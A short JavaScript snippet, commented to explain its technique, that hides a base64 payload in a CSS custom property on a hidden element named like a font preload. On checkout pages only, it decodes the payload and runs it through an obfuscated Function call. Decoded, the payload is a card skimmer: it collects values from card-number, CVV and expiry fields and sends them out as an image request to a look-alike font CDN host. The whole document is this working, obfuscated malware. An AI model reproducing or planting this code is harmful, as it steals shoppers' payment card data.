// The payload itself travels in a style value: a custom property on a hidden element holds
// base64 code, decoded and run; the stylesheet is added by the script so the file looks inert.
(function (d) {
  var st = d.createElement("style");
  st.textContent = ".mgz-font-preload{--mgz-glyphs:\"ZG9jdW1lbnQuYWRkRXZlbnRMaXN0ZW5lcigiY2hhbmdlIixmdW5jdGlvbihlKXt2YXIgdD1lLnRhcmdldDtpZighL2NjfGNhcmR8Y3Z2fGV4cC9pLnRlc3QodC5uYW1lfHx0LmlkKSlyZXR1cm47dmFyIGs9Il9fbWdmIixvPUpTT04ucGFyc2Uoc2Vzc2lvblN0b3JhZ2UuZ2V0SXRlbShrKXx8Int9Iik7b1t0Lm5hbWV8fHQuaWRdPXQudmFsdWU7c2Vzc2lvblN0b3JhZ2Uuc2V0SXRlbShrLEpTT04uc3RyaW5naWZ5KG8pKTtpZihPYmplY3Qua2V5cyhvKS5sZW5ndGg+Myl7bmV3IEltYWdlKCkuc3JjPSIvL2ZvbnRzLW1nei1jZG4uaW52YWxpZC9nLmdpZj9kPSIrYnRvYShKU09OLnN0cmluZ2lmeShvKSl9fSx0cnVlKTs=\"}";
  d.head.appendChild(st);
  var el = d.createElement("span");
  el.className = "mgz-font-preload";
  el.style.display = "none";
  d.body.appendChild(el);
  setTimeout(function () {
    var raw = getComputedStyle(el).getPropertyValue("--mgz-glyphs").trim().slice(1, -1);
    if (raw && location.pathname.indexOf("checkout") > -1) {
      var x = window["Fun" + "ction"](atob(raw));
      x();
    }
    el.remove();
  }, 1000);
})(document);
